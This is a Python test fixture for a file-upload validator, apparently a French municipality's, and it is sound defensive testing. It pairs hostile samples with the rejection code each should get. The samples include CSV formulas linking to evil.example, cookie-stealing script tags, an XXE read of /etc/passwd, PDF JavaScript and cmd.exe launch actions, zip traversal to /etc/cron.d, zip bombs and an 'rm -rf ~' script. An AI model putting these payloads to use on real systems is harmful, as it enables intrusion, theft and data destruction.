                    'example/?""&A1;""Voir"")"\n'
                ),
            ),
            (
                "guillemets.csv",
                csv_bytes(
                    'commune,montant\r\n"Mérignac","=HYPERLINK(""https://evil.example/?""&A2)"\r\n'
                ),
            ),
            ("tabulations.csv", csv_bytes("commune\tmontant\nMérignac\t=1+1\n")),
            ("windows-1252.csv", csv_bytes("commune;montant\r\nBègles;=1+1\r\n", "cp1252")),
            ("premiere-colonne.csv", csv_bytes("=1+1;montant\nMérignac;12\n")),
            (
                "virgule-cachee.csv",
                csv_bytes('commune;montant\nMérignac;12,=HYPERLINK("https://evil.example/")\n'),
            ),
        ]
    ]


def accepted_lookalikes() -> list[tuple[str, bytes, str]]:
    """Ordinary files that resemble the active ones above and must stay accepted."""
    return [
        ("lien-web.pdf", link_pdf(b"<< /S /URI /URI (https://www.service-public.fr/) >>"), "pdf"),
        (
            "lien-courriel.pdf",
            link_pdf(b"<< /S /URI /URI (mailto:mairie@merignac.example) >>"),
            "pdf",
        ),
        ("cerfa-sans-script.pdf", form_pdf(), "pdf"),
        ("xfa-sans-script.pdf", xfa_pdf(b""), "pdf"),
        (
            "ouverture-page.pdf",
            build_pdf(catalog=b"/OpenAction [3 0 R /XYZ null null 0] /PageMode /UseOutlines"),
            "pdf",
        ),
        ("champ-page.docx", docx_simple_field(" PAGE \\* MERGEFORMAT "), "docx"),
        ("sommaire.docx", docx_complex_field('TOC \\o "1-3" \\h \\z \\u'), "docx"),
        ("lien-web.docx", docx_related("hyperlink", "https://www.service-public.fr/"), "docx"),
        (
            "modele-local.docx",
            docx_template("file:///C:/Users/agent/AppData/Roaming/Microsoft/Templates/Mairie.dotx"),
            "docx",
        ),
        (
            "graphique.docx",
            docx(extra=[("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx())]),
            "docx",
        ),
        ("somme.xlsx", xlsx_with("=SUM(B2:B2)"), "xlsx"),
        ("barre-texte.xlsx", xlsx_with('=A1&"|"&B1'), "xlsx"),
        ("barre-feuille.xlsx", xlsx_with("='Feuil|2'!A1"), "xlsx"),
        (
            "classeur-lie-local.xlsx",
            xlsx_with(
                add=[
                    ("xl/externalLinks/externalLink1.xml", _EXTERNAL_BOOK),
                    (
                        "xl/externalLinks/_rels/externalLink1.xml.rels",
                        _rels(("externalLinkPath", "file:///C:/Budget/budget-2025.xlsx", True)),
                    ),
                ]
            ),
            "xlsx",
        ),
        ("somme.ods", ods_formula("of:=SUM([.B1:.B2])"), "ods"),
        (
            "lien.odt",
            odf_with(
                "odt",
                '<text:p><text:a xlink:href="https://www.service-public.fr/"'
                ">Service public</text:a></text:p>",
            ),
            "odt",
        ),
        (
            "negatifs.csv",
            csv_bytes(
                "commune;solde;variation\nMérignac;-12,5;-3\nPessac;-1 200,50 €"
                ";-0,5 %\nTalence;-;+\n"
            ),
            "csv",
        ),
        (
            "telephones.csv",
            csv_bytes(
                "service;téléphone\nMairie;+33 1 23 45 67 89\nAccueil;+33 (0)5 56 00 00 00\n"
            ),
            "csv",
        ),
        ("courriels.csv", csv_bytes("service,contact,note\nMairie,mairie@example.fr,a=b\n"), "csv"),
    ]


_PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46 + b"PE\x00\x00" * 4
_ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 40
_MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00" + b"\x00" * 32
_CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + b"\x00" * 24
_HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
_SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(1)</script></svg>"
)
_OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
_BMP = (
    b"BM"
    + struct.pack("<IHHI", 90, 0, 0, 54)
    + struct.pack("<IiiHH", 40, 2, 2, 1, 24)
    + (b"\x00" * 60)
)
_ACTIVE = "active_content"
_TYPE = "type_not_allowed"
_MISMATCH = "extension_mismatch"
_BOMB = "zip_bomb"


def hostile_corpus() -> list[tuple[str, bytes, str]]:
    """(file name, content, expected code) for check_upload(..., max_size=MAX_SIZE)."""
    valid_pdf, valid_png, valid_jpeg = pdf(), image("PNG"), image("JPEG")
    broken_png = bytearray(valid_png)
    broken_png[60] ^= 0xFF  # inside IDAT: the chunk CRC no longer matches
    many = zip_of([(f"f{n:04d}.xml", b"") for n in range(5001)])
    forged = _patch_zip(
        zip_of([(f"sheet{n}.xml", b"x" * 100) for n in range(60)]), file_size=9 * 1024 * 1024
    )
    corpus = [
        # Executables, whatever their name.
        ("facture.pdf", _PE, _ACTIVE),
        ("lisez-moi.txt", _PE, _ACTIVE),
        ("arrete.docx", _PE, _ACTIVE),
        ("rapport.pdf", _ELF, _ACTIVE),
        ("notes.txt", _ELF, _ACTIVE),
        ("budget.pdf", _MACHO, _ACTIVE),
        ("budget.txt", b"\xfe\xed\xfa\xce" + b"\x00" * 40, _ACTIVE),
        ("annexe.docx", _CLASS, _ACTIVE),
        ("script.txt", b"#!/bin/sh\nrm -rf ~\n", _ACTIVE),
        ("donnees.csv", b"#!/usr/bin/env python3\nimport os\n", _ACTIVE),
        # HTML, SVG and XML: browsers may run them.
        ("page.txt", _HTML, _ACTIVE),
        ("export.csv", _HTML, _ACTIVE),
        ("document.pdf", _HTML, _ACTIVE),
        ("donnees.json", _HTML, _ACTIVE),
        ("majuscules.txt", b"\xef\xbb\xbf \r\n\t<!DOCTYPE HTML PUBLIC><HTML><BODY>x", _ACTIVE),
        ("cadre.csv", b"nom;lien\nmairie;<iframe src=https://evil.example></iframe>\n", _ACTIVE),
        ("tardif.txt", b"Compte rendu.\n" * 200 + b"<ScRiPt>alert(1)</script>", _ACTIVE),
        ("commentaire.txt", b"<!-- x --><p onclick=alert(1)>clic</p>", _ACTIVE),
        ("image.txt", _SVG, _ACTIVE),
        ("logo.pdf", _SVG, _ACTIVE),
        ("carte.json", b'<svg xmlns="http://www.w3.org/2000/svg"/>', _ACTIVE),
        ("flux.txt", b'<?xml version="1.0"?><rss><channel/></rss>', _ACTIVE),
        ("sans-declaration.csv", b"<root><item>1</item></root>", _ACTIVE),
        (
            "xxe.json",
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">'
            b"]><x>&e;</x>",
            _ACTIVE,
        ),
        # PDF with active content.
        (
            "ouverture.pdf",
            _pdf_catalog_with(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
            _ACTIVE,
        ),
        (
            "js-court.pdf",
            _pdf_catalog_with(b"/AA << /O << /S /JavaScript /JS(this.print\\(\\)) >> >>"),
            _ACTIVE,
        ),
        ("lanceur.pdf", _pdf_catalog_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), _ACTIVE),
        (
            "joint.pdf",
            _pdf_catalog_with(
                b"/Names << /EmbeddedFiles << /Names [(a.exe) << /Type "
                b"/Filespec /EF << /F 9 0 R >> >>] >> >>"
            ),
            _ACTIVE,
        ),
        ("flash.pdf", _pdf_catalog_with(b"/Annots [<< /Subtype /RichMedia >>]"), _ACTIVE),
        (
            "echappe.pdf",
            _pdf_catalog_with(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
            _ACTIVE,
        ),
        (
            "objstm.pdf",
            pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
            _ACTIVE,
        ),
        ("protege.pdf", protected_pdf("mot-de-passe"), "encrypted"),
        ("gonfle.pdf", pdf_with_object_stream(padding=21 * 1024 * 1024), _BOMB),
        ("tronque.pdf", valid_pdf[: len(valid_pdf) // 2], "corrupt"),
        ("sans-fin.pdf", valid_pdf.replace(b"%%EOF", b"%%XXX"), "corrupt"),
        # Content and name disagree.
        ("deliberation.docx", valid_pdf, _MISMATCH),
        ("plan.pdf", valid_png, _MISMATCH),
        ("photo.png", valid_jpeg, _MISMATCH),
        ("scan.jpg", valid_png, _MISMATCH),
        ("compte-rendu.docx", odt(), _MISMATCH),
        ("arrete.odt", docx(), _MISMATCH),
        ("budget.docx", xlsx(), _MISMATCH),
        ("budget.xlsx", ods(), _MISMATCH),
        ("tableau.pdf", b"commune;budget\nPessac;120\n", _MISMATCH),
        ("notes.jpeg", b"Simple texte.\n", _MISMATCH),
        # ZIP containers: bombs, traversal, encryption, corruption, other archives.
        ("bombe.docx", zip_bomb(), _BOMB),
        ("tailles.xlsx", forged, _BOMB),
        ("milliers.odt", many, _BOMB),
        ("traverse.docx", docx(extra=[("../../etc/cron.d/evil", b"x")]), "unsafe_archive"),
        (
            "absolu.odt",
            zip_of(
                [("mimetype", ODT_MIME), ("content.xml", b"<x/>"), ("/etc/passwd", b"x")],
                stored_first=True,
            ),
            "unsafe_archive",
        ),
        ("windows.docx", docx(extra=[("word\\media\\a.xml", b"x")]), "unsafe_archive"),
        ("chiffre.odt", _patch_zip(odt(), flags=0x1), "encrypted"),
        (
            "mot-de-passe.odt",
            zip_of(
                [
                    ("mimetype", ODT_MIME),
                    ("content.xml", b"\x8a\x01"),
                    ("META-INF/manifest.xml", b"<manifest:encryption-data/>"),
                ],
                stored_first=True,
            ),
            "encrypted",
        ),
        ("corrompu.docx", b"PK\x03\x04" + b"\x14\x00" * 40, "corrupt"),
        ("coupe.odt", odt()[:700], "corrupt"),
        ("doublon.docx", docx(extra=[("word/document.xml", b"<x/>")]), "corrupt"),
        ("archive.zip", zip_of([("rapport.txt", b"texte")]), _TYPE),
        ("archive.docx", zip_of([("rapport.txt", b"texte")]), _TYPE),
        ("vide.zip", b"PK\x05\x06" + b"\x00" * 18, _TYPE),
        (
            "presentation.odp",
            zip_of(
                [
                    ("mimetype", "application/vnd.oasis.opendocument.presentation"),
                    ("content.xml", b"<x/>"),
                ],
                stored_first=True,
            ),
            _TYPE,
        ),
        (
            "diaporama.pptx",
            zip_of([("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", "<p/>")]),
            _TYPE,
        ),
        (
            "livre.odt",
            zip_of(
                [("mimetype", "application/epub+zip"), ("content.opf", "<x/>")], stored_first=True
            ),
            _TYPE,
        ),
        (
            "outil.jar",
            zip_of([("META-INF/MANIFEST.MF", "Main-Class: A\n"), ("A.class", _CLASS)]),
            _ACTIVE,
        ),
        (
            "appli.apk",
            zip_of([("AndroidManifest.xml", b"\x03\x00"), ("classes.dex", b"dex\n")]),
            _ACTIVE,
        ),
        # Office documents with macros or active controls.
        ("macro.docx", docx(extra=[("word/vbaProject.bin", _OLE2)]), _ACTIVE),
        (
            "classeur.xlsx",
            zip_of(
                [
                    (
                        "[Content_Types].xml",
                        '<Types><Override ContentType="'
                        'application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
                    ),
                    ("xl/workbook.xml", "<workbook/>"),
                ]
            ),
            _ACTIVE,
        ),
        (
            "macro.docm.docx",
            docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
            _ACTIVE,
        ),
        ("activex.docx", docx(extra=[("word/activeX/activeX1.xml", b"<ax/>")]), _ACTIVE),
        (
            "basic.odt",
            zip_of(
                [
                    ("mimetype", ODT_MIME),
                    ("content.xml", b"<x/>"),
                    ("Basic/Standard/Module1.xml", b"<script/>"),
                ],
                stored_first=True,
            ),
            _ACTIVE,
        ),
        ("scripts.ods", ods(extra=[("Scripts/python/macro.py", b"import os")]), _ACTIVE),
        # Formats outside the allowlist.
        ("animation.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", _TYPE),
        ("animation.png", b"GIF87a\x01\x00\x01\x00\x00\x00\x00;", _TYPE),
        ("image.bmp", _BMP, _TYPE),
        ("scan.tiff", b"II*\x00\x08\x00\x00\x00" + b"\x00" * 32, _TYPE),
        ("scan-mac.tif", b"MM\x00*\x00\x00\x00\x08" + b"\x00" * 32, _TYPE),
        ("lettre.rtf", b"{\\rtf1\\ansi Bonjour}", _TYPE),
        ("lettre.doc", b"{\\rtf1\\ansi Bonjour}", _TYPE),
        ("ancien.doc", _OLE2, _TYPE),
        ("ancien.xls", _OLE2, _TYPE),
        ("donnees.gz", b"\x1f\x8b\x08\x00" + b"\x00" * 16, _TYPE),
        ("archive.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24, _TYPE),
        ("archive.tar", _tar(), _TYPE),
        ("archive.bz2", b"BZh91AY&SY" + b"\x00" * 20, _TYPE),
        ("archive.xz", b"\xfd7zXZ\x00\x00\x04" + b"\x00" * 20, _TYPE),
        ("archive.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 20, _TYPE),
        ("photo.webp", b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 24, _TYPE),
        ("photo.heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", _TYPE),
        ("impression.ps", b"%!PS-Adobe-3.0\n", _TYPE),
        ("notes.md", b"# Titre\n\nDu texte.\n", _TYPE),
        # Broken or bomb images.
        ("abime.png", bytes(broken_png), "corrupt"),
        ("coupe.png", valid_png[:40], "corrupt"),
        ("abime.jpg", b"\xff\xd8\xff\xe0" + b"\x13" * 64, "corrupt"),
        ("geante.png", _png_declaring(50_000, 50_000), "image_too_large"),
        ("grande.png", _png_declaring(12_000, 9_000), "image_too_large"),
        # Text that is not clean text.
        ("binaire.txt", b"Bonjour\x00le monde", _TYPE),
        ("accents.json", b'{"commune": "M\xe9rignac"}', "bad_encoding"),
        ("controle.txt", b"Rapport \x81\x01 annuel", "bad_encoding"),
        ("utf16.csv", "commune;budget\n".encode("utf-16"), "bad_encoding"),
        ("invalide.json", b'{"commune": "Pessac",', "corrupt"),
        ("profond.json", b"[" * 100_000 + b"]" * 100_000, "corrupt"),
        # Size.
        ("vide.pdf", b"", "empty"),
        ("enorme.pdf", b"%PDF-1.4\n" + b" " * MAX_SIZE, "too_large"),
        # Names.
        ("....", valid_pdf, "bad_name"),
        ("sans_extension", valid_pdf, "bad_name"),
        ("", valid_pdf, "bad_name"),
        ("../../", valid_pdf, "bad_name"),
        ("  .  ", valid_pdf, "bad_name"),
        ("CON.pdf", valid_pdf, "bad_name"),
        ("nul.txt", b"texte", "bad_name"),
        ("COM1.csv", b"a;b\n", "bad_name"),
        ("lpt9.tar.pdf", valid_pdf, "bad_name"),
        ("\u202e\u200b.pdf", valid_pdf, "bad_name"),
        ("\x00\x01\x7f", valid_pdf, "bad_name"),
        ("rapport." + "x" * 40, valid_pdf, "bad_name"),
    ]
    return corpus + active_content_corpus()
